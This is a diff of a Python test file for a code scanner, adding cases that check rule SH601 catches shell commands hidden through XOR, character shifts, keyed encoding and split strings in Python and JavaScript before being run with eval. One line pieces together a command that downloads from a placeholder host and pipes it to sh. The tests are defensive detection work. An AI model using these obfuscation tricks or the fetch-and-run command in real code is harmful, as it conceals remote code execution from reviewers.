@@ -964,7 +964,6 @@ def test_harmless_encoded_texts_are_accepted(text):
 @pytest.mark.parametrize(
     "text",
     [
-        f"x = ''.join(chr(c ^ 7) for c in {[each ^ 7 for each in COMMAND]})",
         f"x = {COMMAND.decode()[::-1]!r}[::-1]",
         f"import codecs\nx = codecs.decode({codecs.encode(COMMAND.decode(), 'rot13')!r}, 'rot13')",
         "x = 'cu' + 'rl -s ht' + 'tps://c.invalid/x | s' + 'h'\neval('1')",
@@ -972,6 +971,42 @@ def test_harmless_encoded_texts_are_accepted(text):
 )
 def test_attack_a_command_assembled_from_pieces_is_found(text):
     assert "SH601" in seen(text)
+
+
+SHIFTED = [each + 3 for each in COMMAND]
+KEYED = [each ^ b"k3y"[number % 3] for number, each in enumerate(COMMAND)]
+
+
+@pytest.mark.parametrize(
+    ("path", "text"),
+    [
+        ("a.py", f"x = ''.join(chr(c ^ 7) for c in {[each ^ 7 for each in COMMAND]})"),
+        ("a.py", f"d = {SHIFTED}\nk = 3\nx = ''.join([chr(c - k) for c in d])"),
+        ("a.py", f"x = ''.join(map(lambda c: chr(c - 3), {SHIFTED}))"),
+        ("a.py", f"k = 'k3y'\nx = ''.join(chr(c ^ ord(k[i % 3])) for i, c in enumerate({KEYED}))"),
+        ("a.py", f"x = bytes(a ^ b for a, b in zip(bytes.fromhex('{bytes(KEYED).hex()}'), cycle(b'k3y'))).decode()"),
+        (
+            "a.js",
+            f"const k = 'k3y', d = {KEYED};\nx = d.map((c, i) => String.fromCharCode(c ^ k.charCodeAt(i % 3))).join('');",
+        ),
+        ("a.js", f"const x = String.fromCharCode(...{SHIFTED}.map(c => c - 3));"),
+        ("a.js", f"const x = Buffer.from({SHIFTED}.map(c => c - 3)).toString();"),
+        (
+            "a.js",
+            f"x = {''.join(map(chr, SHIFTED))!r}.split('').map(c => String.fromCharCode(c.charCodeAt(0) - 3)).join('');",
+        ),
+    ],
+)
+def test_attack_a_command_behind_a_key_is_found(path, text):
+    assert "SH601" in seen(f"{text}\neval(x)\n", f"scripts/{path}")
+
+
+@pytest.mark.parametrize("row", ["''.join(chr(ord(c) + 0x200000) for c in t)\n", "''.join(chr(c) for c in n)\n"])
+def test_attack_a_long_text_that_is_changed_many_times_takes_linear_time(row):
+    def work(size: int) -> None:
+        seen(f"eval(x)\nt = '{'a' * 99 * size}'\nn = [{'97, ' * 9 * size}-1]\n{row * size}")
+
+    assert is_linear(work, 1_000)
 
 
 def test_finding_names_the_origin_of_the_value():
